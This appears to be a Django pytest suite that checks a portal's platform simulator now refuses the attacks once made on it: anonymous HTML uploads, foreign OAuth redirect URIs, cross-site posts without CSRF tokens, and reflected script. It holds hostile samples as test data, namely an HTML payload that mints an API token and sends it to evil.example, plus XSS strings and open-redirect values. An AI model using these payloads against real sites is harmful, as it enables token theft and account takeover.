"""The platform simulator, attacked from outside as it was: an anonymous POST of an HTML file to
``/simulator/_native/...``, then the media address opened on the portal's origin (where a
signed-in Kepala Dinas's browser would have run it and minted an API token); a foreign
``redirect_uri`` on the OAuth dialogs; the control API without a session or a CSRF token.

Each attack is made the way the attacker made it, through HTTP, and must now fail."""

from __future__ import annotations

import io
import os
import subprocess
import sys

import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.test import Client
from PIL import Image
from rest_framework.authtoken.models import Token

from publishing.simulator import services
from publishing.simulator.models import Account, Media, Post
from publishing.simulator.models import Token as SimToken

pytestmark = pytest.mark.django_db

EVIL_HTML = (
    b"<!doctype html><html><body><script>"
    b"fetch('/accounts/profile/').then(r => r.text()).then(t => {"
    b'const c = t.match(/csrfmiddlewaretoken" value="([^"]+)/)[1];'
    b"fetch('/accounts/profile/', {method: 'POST', body: new URLSearchParams("
    b"{csrfmiddlewaretoken: c, action: 'create_token'})})"
    b".then(r => r.text()).then(p => fetch('https://evil.example/?' + p));});"
    b"</script></body></html>"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
NATIVE = "/simulator/_native/facebook/MediaCenterBJN/"
FB_DIALOG = "/simulator/facebook/www/v21.0/dialog/oauth"
X_AUTHORIZE = "/simulator/x/www/i/oauth2/authorize"


def _jpeg(size=(64, 64)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 40, 40)).save(buffer, "JPEG")
    return buffer.getvalue()


def _png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (32, 32), (20, 120, 200)).save(buffer, "PNG")
    return buffer.getvalue()


def _gif() -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (16, 16)).save(buffer, "GIF")
    return buffer.getvalue()


def _upload(name: str, data: bytes, content_type: str):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type=content_type)


@pytest.fixture
def accounts(db):
    services.seed_accounts()


@pytest.fixture
def staff(client_for, editor) -> Client:
    return client_for(editor)


# --- the attack as it was made ------------------------------------------------------------------


def test_an_anonymous_post_of_an_html_file_is_refused_and_nothing_is_kept(accounts):
    stranger = Client()
    answer = stranger.post(
        NATIVE, {"text": "hai", "media": _upload("x.html", EVIL_HTML, "text/html")}
    )
    assert answer.status_code == 401
    page = stranger.post(
        NATIVE,
        {"text": "hai", "media": _upload("x.html", EVIL_HTML, "text/html")},
        HTTP_ACCEPT="text/html",
    )
    assert page.status_code == 302 and page["Location"].startswith("/accounts/login/")  # the login
    assert not Media.objects.exists() and not Post.objects.exists()


def test_the_control_api_needs_a_session_and_a_csrf_token(accounts, editor):
    stranger = Client()
    assert (
        stranger.post("/simulator/_faults/x/mediacenterBJN/", {"mode": "server_error"}).status_code
        == 401
    )
    assert stranger.get("/simulator/_log").status_code == 401
    assert stranger.get("/simulator/").status_code == 302
    # A signed-in member of staff, but the request comes from another site (no CSRF token).
    cross_site = Client(enforce_csrf_checks=True)
    cross_site.force_login(editor)
    for address, data in (
        ("/simulator/_faults/x/mediacenterBJN/", {"mode": "server_error"}),
        (NATIVE, {"text": "dari situs lain"}),
        (f"/simulator/_panel/{Account.objects.first().pk}/fault", {"mode": "server_error"}),
    ):
        assert cross_site.post(address, data).status_code == 403, address
    assert not Post.objects.exists()
    assert not Account.objects.filter(faults__isnull=False).exists()


@pytest.mark.parametrize("delay", ["nan", "inf", "-1", "1e9", "lama"])
def test_a_fault_delay_that_would_hang_or_crash_a_web_thread_is_refused(accounts, staff, delay):
    answer = staff.post(
        "/simulator/_faults/x/mediacenterBJN/",
        {"mode": "slow", "delay": delay},
        content_type="application/json",
    )
    assert answer.status_code == 400
    assert not Account.objects.filter(faults__isnull=False).exists()


def test_a_signed_in_person_without_a_role_is_refused(accounts, make_user):
    nobody = make_user("tanpa-peran", None, None)
    client = Client()
    client.force_login(nobody)
    assert client.get("/simulator/").status_code == 403
    assert client.post(NATIVE, {"text": "hai"}).status_code == 403


@pytest.mark.parametrize(
    ("name", "data", "declared"),
    [
        ("foto.jpg", EVIL_HTML, "image/jpeg"),  # a page dressed as a photo
        ("gambar.svg", SVG, "image/svg+xml"),
        ("skrip.js", b"alert(document.cookie)", "application/javascript"),
        ("video.mp4", EVIL_HTML, "video/mp4"),
        ("kosong.png", b"", "image/png"),
        ("potongan.jpg", _jpeg()[:200], "image/jpeg"),  # a broken photo
    ],
)
def test_staff_may_post_only_the_photos_and_videos_the_platform_takes(
    accounts, staff, name, data, declared
):
    answer = staff.post(NATIVE, {"text": "coba", "media": _upload(name, data, declared)})
    assert answer.status_code == 415, answer.content[:200]
    assert not Media.objects.exists() and not Post.objects.exists()


def test_the_stored_type_is_read_from_the_bytes_not_the_declared_one(accounts, staff):
    answer = staff.post(
        "/simulator/_native/x/mediacenterBJN/",
        {"text": "infografis", "media": _upload("page.html", _png(), "text/html")},
    )
    assert answer.status_code == 201, answer.content[:200]
    assert answer.json()["media"][0]["mime_type"] == "image/png"
    # Instagram takes JPEG photos only, X takes GIF, Instagram does not.
    instagram = "/simulator/_native/instagram/mediacenterbojonegoro/"
    assert (
        staff.post(instagram, {"media": _upload("a.png", _png(), "image/png")}).status_code == 415
    )
    assert staff.post(instagram, {"media": _upload("a.jpg", _jpeg(), "")}).status_code == 201
    x = "/simulator/_native/x/mediacenterBJN/"
    assert staff.post(x, {"media": _upload("a.gif", _gif(), "image/gif")}).status_code == 201
    assert (
        staff.post(instagram, {"media": _upload("a.gif", _gif(), "image/gif")}).status_code == 415
    )


def test_the_panels_own_form_posts_natively_with_its_csrf_token(accounts, editor):
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(editor)
    index = browser.get("/simulator/")
    html = index.content.decode()
    token = html.split('name="csrfmiddlewaretoken" value="', 1)[1].split('"', 1)[0]
    assert (
        html.count('name="csrfmiddlewaretoken"')
        >= 2 * Account.objects.exclude(kind=Account.Kind.FB_USER).count()
    )
    answer = browser.post(
        NATIVE,
        {
            "csrfmiddlewaretoken": token,
            "text": "Dari panel",
            "media": _upload("f.jpg", _jpeg(), ""),
        },
        HTTP_ACCEPT="text/html",
    )
    assert answer.status_code == 302 and "/simulator/feed/facebook/" in answer["Location"]
    assert Post.objects.get().text == "Dari panel"


# --- the media address --------------------------------------------------------------------------


def _media(mime: str, data: bytes) -> Media:
    account = Account.objects.get(platform="facebook", handle="MediaCenterBJN")
    media = Media(account=account, kind="image", mime_type=mime, size=len(data))
    media.file.save("lama.html", ContentFile(data), save=False)
    media.save()
    return media


def test_media_are_served_with_their_type_nosniff_and_a_sandbox(accounts):
    photo = _media("image/jpeg", _jpeg())
    answer = Client().get(f"/simulator/_media/{photo.pk}")
    assert answer.status_code == 200
    assert answer["Content-Type"] == "image/jpeg"
    assert answer["X-Content-Type-Options"] == "nosniff"
    policy = answer["Content-Security-Policy"]
    assert policy.startswith("sandbox;") and "default-src 'none'" in policy
    assert "script-src" not in policy
    assert answer["Content-Disposition"].startswith("inline")


def test_a_page_kept_before_the_checks_is_served_as_a_download_never_as_html(accounts, kadis):
    """Media stored before the type was read from the bytes may claim to be a page: it is handed
    out as an opaque download in a sandbox, and opening it mints nothing."""
    old = _media("text/html", EVIL_HTML)
    head = Client()
    head.force_login(kadis)
    answer = head.get(f"/simulator/_media/{old.pk}")
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"].startswith("sandbox")
    assert not Token.objects.filter(user=kadis).exists()


# --- the OAuth dialogs --------------------------------------------------------------------------

FOREIGN = [
    "https://evil.example/publishing/channels/oauth/{p}/callback/",
    "http://testserver/simulator/_media/1",
    "http://testserver/publishing/channels/oauth/{p}/callback/?next=https://evil.example/",
    "http://testserver/publishing/channels/oauth/{p}/callback/../../../accounts/profile/",
    "//evil.example/publishing/channels/oauth/{p}/callback/",
    "javascript:alert(1)//",
]


@pytest.mark.parametrize("target", FOREIGN)
def test_the_facebook_dialog_answers_only_the_registered_callback(accounts, staff, target):
    redirect_uri = target.format(p="facebook")
    params = {"client_id": settings.FACEBOOK_APP_ID, "redirect_uri": redirect_uri, "state": "s1"}
    shown = staff.get(FB_DIALOG, params)
    assert shown.status_code == 400 and "Allow" not in shown.content.decode()
    allowed = staff.post(FB_DIALOG, {**params, "decision": "allow"})
    denied = staff.post(FB_DIALOG, {**params, "decision": "deny"})
    assert allowed.status_code == denied.status_code == 400
    assert "Location" not in allowed and "Location" not in denied
    assert not SimToken.objects.filter(kind="code").exists()


@pytest.mark.parametrize("target", FOREIGN)
def test_the_x_authorize_page_answers_only_the_registered_callback(accounts, staff, target):
    params = {
        "response_type": "code",
        "client_id": settings.X_CLIENT_ID,
        "redirect_uri": target.format(p="x"),
        "state": "s1",
        "code_challenge": "c" * 43,
        "code_challenge_method": "S256",
        "scope": "tweet.read",
    }
    account = Account.objects.get(platform="x", handle="mediacenterBJN")
    assert staff.get(X_AUTHORIZE, params).status_code == 400
    allowed = staff.post(X_AUTHORIZE, {**params, "decision": "allow", "account": account.pk})
    assert allowed.status_code == 400 and "Location" not in allowed
    assert not SimToken.objects.filter(kind="code").exists()


def test_the_registered_callback_gets_its_code(accounts, staff, settings):
    settings.ASSET_PUBLIC_BASE_URL = "https://portal.example.go.id"
    for redirect_uri in (
        "https://portal.example.go.id/publishing/channels/oauth/facebook/callback/",
        "http://testserver/publishing/channels/oauth/facebook/callback/",
    ):
        params = {"client_id": settings.FACEBOOK_APP_ID, "redirect_uri": redirect_uri}
        answer = staff.post(FB_DIALOG, {**params, "state": "s1", "decision": "allow"})
        assert answer.status_code == 302
        assert answer["Location"].startswith(redirect_uri + "?code=")
    # X's callback is X's own: Facebook's is not registered there.
    params = {
        "response_type": "code", "client_id": settings.X_CLIENT_ID, "state": "s1",
        "code_challenge": "c" * 43,
        "redirect_uri": "http://testserver/publishing/channels/oauth/facebook/callback/",
    }  # fmt: skip
    assert staff.get(X_AUTHORIZE, params).status_code == 400
    params["redirect_uri"] = "http://testserver/publishing/channels/oauth/x/callback/"
    assert staff.get(X_AUTHORIZE, params).status_code == 200


def test_the_x_consent_with_a_made_up_account_is_a_400_not_a_crash(accounts, staff):
    params = {
        "response_type": "code", "client_id": settings.X_CLIENT_ID, "state": "s1",
        "code_challenge": "c" * 43, "decision": "allow", "account": "abc",
        "redirect_uri": "http://testserver/publishing/channels/oauth/x/callback/",
    }  # fmt: skip
    assert staff.post(X_AUTHORIZE, params).status_code == 400


# --- reflected input ----------------------------------------------------------------------------


def test_the_consent_page_and_the_feed_escape_what_they_were_given(accounts, staff):
    state = '"><script>alert(1)</script>'
    consent = staff.get(
        FB_DIALOG,
        {
            "client_id": settings.FACEBOOK_APP_ID,
            "redirect_uri": "http://testserver/publishing/channels/oauth/facebook/callback/",
            "state": state,
            "scope": "<img src=x onerror=alert(1)>",
        },
    )
    html = consent.content.decode()
    assert consent.status_code == 200
    assert "<script>alert(1)" not in html and "<img src=x" not in html
    page = Account.objects.get(platform="facebook", handle="MediaCenterBJN")
    services.record_post(
        page, text="<script>alert(1)</script>", link="javascript:alert(document.cookie)"
    )
    feed = Client().get("/simulator/feed/facebook/MediaCenterBJN/").content.decode()
    assert "<script>alert(1)" not in feed
    assert 'href="javascript:' not in feed


def test_only_signed_in_staff_consent_and_only_through_the_dialogs_own_form(accounts, editor):
    """Nobody outside the portal plays the person signed in to the platform (an anonymous
    visitor who consented could mint an X token with a code challenge of his own), and a
    consent posted from another site is refused."""
    fb = {
        "client_id": settings.FACEBOOK_APP_ID,
        "redirect_uri": "http://testserver/publishing/channels/oauth/facebook/callback/",
        "state": "s1",
    }
    x = {
        "response_type": "code", "client_id": settings.X_CLIENT_ID, "state": "s1",
        "code_challenge": "c" * 43,
        "redirect_uri": "http://testserver/publishing/channels/oauth/x/callback/",
    }  # fmt: skip
    account = Account.objects.get(platform="x", handle="mediacenterBJN")
    stranger = Client()
    for address, params in ((FB_DIALOG, fb), (X_AUTHORIZE, x)):
        shown = stranger.get(address, params)
        assert shown.status_code == 302 and shown["Location"].startswith("/accounts/login/")
        allowed = stranger.post(address, {**params, "decision": "allow", "account": account.pk})
        assert allowed.status_code == 302 and allowed["Location"].startswith("/accounts/login/")
    cross_site = Client(enforce_csrf_checks=True)
    cross_site.force_login(editor)
    for address, params in ((FB_DIALOG, fb), (X_AUTHORIZE, x)):
        forged = cross_site.post(address, {**params, "decision": "allow", "account": account.pk})
        assert forged.status_code == 403
    assert not SimToken.objects.filter(kind="code").exists()
    # The dialog's own form carries the token.
    page = cross_site.get(FB_DIALOG, fb).content.decode()
    token = page.split('name="csrfmiddlewaretoken" value="', 1)[1].split('"', 1)[0]
    answer = cross_site.post(FB_DIALOG, {**fb, "decision": "allow", "csrfmiddlewaretoken": token})
    assert answer.status_code == 302 and "?code=" in answer["Location"]


# --- the API token ------------------------------------------------------------------------------


def test_an_api_token_is_minted_only_by_a_same_site_post_with_its_csrf_token(kadis):
    from tests.conftest import login

    browser = Client(enforce_csrf_checks=True)
    browser.cookies = login(Client(), kadis).cookies  # signed in, second factor given
    # Not through a GET, whatever its parameters.
    browser.get("/accounts/profile/", {"action": "create_token"})
    assert not Token.objects.filter(user=kadis).exists()
    # Not by a form posted from another site (no token, or a foreign Origin).
    assert browser.post("/accounts/profile/", {"action": "create_token"}).status_code == 403
    page = browser.get("/accounts/profile/").content.decode()
    token = page.split('name="csrfmiddlewaretoken" value="', 1)[1].split('"', 1)[0]
    foreign = browser.post(
        "/accounts/profile/",
        {"action": "create_token", "csrfmiddlewaretoken": token},
        HTTP_ORIGIN="https://evil.example",
    )
    assert foreign.status_code == 403
    assert not Token.objects.filter(user=kadis).exists()
    # The token endpoint of the API takes no GET; a cross-site POST riding the session is
    # refused (and without a password it would mint nothing anyway).
    assert browser.get("/api/v1/auth/token/").status_code == 405
    assert browser.post("/api/v1/auth/token/", {}).status_code == 403
    assert Client().post("/api/v1/auth/token/", {}).status_code == 400
    assert not Token.objects.filter(user=kadis).exists()
    mine = browser.post(
        "/accounts/profile/", {"action": "create_token", "csrfmiddlewaretoken": token}
    )
    assert mine.status_code == 200 and Token.objects.filter(user=kadis).exists()
    assert "no-store" in mine.get("Cache-Control", "") or "private" in mine.get("Cache-Control", "")


# --- where the simulator is routed --------------------------------------------------------------


def test_the_simulator_is_never_routed_with_debug_off(tmp_path):
    """Even when SOCIAL_API_BASE is pointed at a /simulator address by mistake."""
    from cryptography.fernet import Fernet

    code = (
        "import django; django.setup()\n"
        "from django.urls import resolve, Resolver404\n"
        "try:\n    resolve('/simulator/_native/facebook/x/'); print('routed')\n"
        "except Resolver404:\n    print('absent')"
    )
    base = {key: value for key, value in os.environ.items() if key != "DATABASE_URL"}
    common = {
        "DJANGO_SETTINGS_MODULE": "config.settings",
        "VAR_DIR": str(tmp_path / "var"),
        "DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite3'}",
        "SOCIAL_API_BASE": "https://portal.example.go.id/simulator",
    }
    production = {
        "DEBUG": "false",
        "SECRET_KEY": "x7#" + "k" * 60 + "Q9!zR$",
        "VAULT_KEYS": Fernet.generate_key().decode(),
        "ALLOWED_HOSTS": "portal.example.go.id",
    }
    answers = {}
    for name, extra in (("production", production), ("development", {"DEBUG": "true"})):
        result = subprocess.run(
            [sys.executable, "-c", code],
            cwd=settings.BASE_DIR,
            env={**base, **common, **extra},
            capture_output=True,
            text=True,
            timeout=120,
        )
        answers[name] = result.stdout.strip() or result.stderr[-500:]
    assert answers == {"production": "absent", "development": "routed"}
